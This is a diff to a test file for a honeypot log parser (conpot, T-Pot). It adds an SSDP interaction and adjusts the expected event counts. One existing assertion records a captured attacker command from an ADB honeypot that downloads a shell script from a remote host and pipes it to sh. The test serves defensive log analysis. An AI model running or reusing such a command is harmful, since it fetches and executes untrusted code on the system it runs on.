@@ -40,9 +40,9 @@ test('conpot: a session of Modbus with its functions, requests over UDP, a web r
 
 test('T-Pot: each hit goes to the reader of its honeypot, in any order; what it is not told of becomes an interaction of its own', () => {
   const { outcomes, interactions } = readLog('tpot', sampleLines('tpot.ndjson'))
-  assert.deepEqual(outcomes, ['event', 'event', 'event', 'event', 'event', 'event', 'event', 'event', 'skipped', 'event', 'skipped', 'bad'])
+  assert.deepEqual(outcomes, ['event', 'event', 'event', 'event', 'event', 'event', 'event', 'event', 'skipped', 'event', 'event', 'skipped', 'bad'])
   const of = (src: string) => interactions.find((one) => formatAddress(one.src) === src)!
-  assert.equal(interactions.length, 7)
+  assert.equal(interactions.length, 8)
   assert.deepEqual(short(of('198.51.100.23')), ['198.51.100.23', 41022, 22, 'tcp', 'ssh', 'dialogue'])
   assert.equal(of('198.51.100.23').at_ms, Date.UTC(2026, 10, 1, 10))
   assert.deepEqual([of('203.0.113.9').protocol, of('203.0.113.9').logins], ['mysql', [{ user: 'root', password: '' }]])
@@ -52,5 +52,6 @@ test('T-Pot: each hit goes to the reader of its honeypot, in any order; what it 
   assert.equal(of('203.0.113.12').facts['tpot.adbhoney.input'], 'cd /tmp; curl http://203.0.113.66/a.sh | sh; echo xxxxxxxxxxx')
   assert.deepEqual(short(of('203.0.113.13')).slice(2), [123, 'udp', 'ntp', 'none'])
   assert.deepEqual([...short(of('203.0.113.14')).slice(1), of('203.0.113.14').logins.length], [50005, 110, 'tcp', 'pop3', 'dialogue', 1])
+  assert.deepEqual([...short(of('203.0.113.15')).slice(2), Buffer.from(of('203.0.113.15').sample).toString('hex')], [1900, 'udp', 'ssdp', 'none', '0102c0000201'])
   assert.doesNotMatch(withoutSource(interactions), /192\.0\.2\.|10\.0\.0\.5|decoyhost|country/)
 })
